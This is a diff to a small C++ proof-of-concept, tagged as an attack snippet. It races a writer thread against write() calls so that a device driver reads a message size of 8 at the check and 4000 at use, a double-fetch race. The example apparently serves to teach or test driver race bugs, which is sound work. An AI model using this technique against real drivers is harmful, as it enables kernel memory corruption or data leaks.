@@ -19,13 +19,15 @@ int main() {
   Message message{};
   std::jthread liar([&](const std::stop_token& stop) {
     while (!stop.stop_requested()) {
-      message.size = 8;
+      usleep(1000);
       message.size = 4000;
     }
   });
   ssize_t believed;
-  do believed = write(file, &message, sizeof(message));
-  while (believed <= 60);
+  do {
+    message.size = 8;
+    believed = write(file, &message, sizeof(message));
+  } while (believed <= 60);
   std::printf("60 bytes fit, and the driver works with %zd\n", believed);
 }
 //! [attack]
